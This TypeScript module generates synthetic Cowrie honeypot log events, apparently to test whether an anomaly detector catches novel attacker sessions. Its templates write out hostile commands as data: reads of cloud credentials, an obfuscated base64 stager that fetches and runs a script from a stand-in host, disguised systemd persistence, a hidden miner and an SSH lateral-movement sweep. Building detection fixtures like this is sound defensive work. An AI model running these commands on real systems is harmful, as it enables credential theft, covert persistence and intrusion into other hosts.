/**
 * Writes Cowrie JSON events for injected "novel" longtail sessions: logins with credentials and
 * fingerprints that are common in the real background (so the session is not given away by an
 * invented fingerprint), followed by behaviour the background never shows. IPs come from
 * TEST-NET-2 (198.51.100.0/24), which never collides with real attackers.
 */

/** One behaviour template: commands typed, files fetched. */
interface NovelTemplate {
  theme: string;
  commands: string[];
  downloads?: string[];
}

// Each template is a different novel behaviour, so the five are not a cluster of their own.
const TEMPLATES: NovelTemplate[] = [
  {
    theme: 'cloud credential theft',
    commands: ['cat ~/.aws/credentials', 'env | grep -i -E "aws|azure|gcp"', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'kubectl get secrets -A -o json', 'docker ps -a --no-trunc'],
  },
  {
    theme: 'encoded stager',
    commands: ['echo "Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43Ny9zdGFnZTIuc2ggfCBiYXNoIC1zIC0tIC0tc2lsZW50IC0tbm8tcGVyc2lzdCAyPiYxID4vZGV2L251bGwgJiYgcm0gLWYgfi8uYmFzaF9oaXN0b3J5Cg==" | base64 -d | bash', 'history -c'],
  },
  {
    theme: 'systemd persistence',
    commands: ['printf "[Unit]\\nDescription=kernel helper\\n[Service]\\nExecStart=/usr/lib/.kh/khelper\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n" > /etc/systemd/system/khelper.service', 'systemctl daemon-reload', 'systemctl enable --now khelper.service', 'systemctl is-active khelper'],
    downloads: ['http://198.51.100.90/khelper'],
  },
  {
    theme: 'gpu miner',
    commands: ['nvidia-smi --query-gpu=name,memory.total --format=csv', 'lspci | grep -i vga', 'mkdir -p /dev/shm/.g && cd /dev/shm/.g', 'tar xzf lolminer.tgz', './lolMiner --algo ETCHASH --pool stratum+tcp://pool.example:3333 --user 0xabc.rig1 --apiport 0', 'nohup ./lolMiner >/dev/null 2>&1 &'],
    downloads: ['http://198.51.100.91/lolminer.tgz'],
  },
  {
    theme: 'lateral movement',
    commands: ['cat ~/.ssh/known_hosts', 'cat ~/.bash_history | grep ssh', 'for h in $(awk \'{print $1}\' ~/.ssh/known_hosts | cut -d, -f1); do ssh -o BatchMode=yes -o ConnectTimeout=3 $h "uname -a"; done', 'arp -an', 'ip neigh show'],
  },
];

/** A session that was injected, to look for in the detector's output. */
export interface InjectedSession {
  sensor: string;
  session: string;
  srcIp: string;
  theme: string;
}

const iso = (ms: number) => `${new Date(ms).toISOString().slice(0, 19)}.${String((ms % 1000) * 1000).padStart(6, '0')}Z`;

/**
 * Cowrie JSON lines (one event per line) for `count` (≤ 5) novel sessions starting at `startIso`,
 * one per template, an hour apart.
 *
 * @example
 * ```ts
 * const { lines, injected } = novelSessionLines({ count: 5, sensor: 'ip-172-31-17-139', startIso: '2022-07-18T03:00:00Z' });
 * ```
 */
export function novelSessionLines(opts: { count: number; sensor: string; startIso: string; clientVersion?: string; hassh?: string; credential?: [string, string] }): { lines: string[]; injected: InjectedSession[] } {
  const lines: string[] = [];
  const injected: InjectedSession[] = [];
  const [username, password] = opts.credential ?? ['root', 'password'];
  for (let n = 0; n < Math.min(opts.count, TEMPLATES.length); n++) {
    const t = TEMPLATES[n]!;
    const session = `b0ca1${n}`.padEnd(12, 'f');
    const srcIp = `198.51.100.${20 + n}`;
    let ms = Date.parse(opts.startIso) + n * 3600_000;
    const base = { sensor: opts.sensor, session, src_ip: srcIp };
    const ev = (eventid: string, extra: Record<string, unknown>) => {
      lines.push(JSON.stringify({ eventid, ...extra, ...base, timestamp: iso(ms) }));
      ms += 1500 + 997 * ((n + lines.length) % 5);
    };
    const start = ms;
    ev('cowrie.session.connect', { src_port: 40000 + n, dst_ip: '172.31.17.139', dst_port: 22, protocol: 'ssh', message: 'New connection' });
    ev('cowrie.client.version', { version: opts.clientVersion ?? 'SSH-2.0-libssh-0.6.3', message: 'Remote SSH version' });
    ev('cowrie.client.kex', { hassh: opts.hassh ?? '51cba57125523ce4b9db67714a90bf6e', hasshAlgorithms: '' });
    ev('cowrie.login.success', { username, password, message: `login attempt [${username}/${password}] succeeded` });
    for (const input of t.commands) ev('cowrie.command.input', { input, message: `CMD: ${input}` });
    for (const url of t.downloads ?? []) {
      const shasum = (n.toString(16) + url.length.toString(16)).padEnd(64, 'a');
      ev('cowrie.session.file_download', { url, shasum, outfile: `var/lib/cowrie/downloads/${shasum}`, message: 'Downloaded URL' });
    }
    ev('cowrie.session.closed', { duration: (ms - start) / 1000, message: 'Connection lost' });
    injected.push({ sensor: opts.sensor, session, srcIp, theme: t.theme });
  }
  return { lines, injected };
}
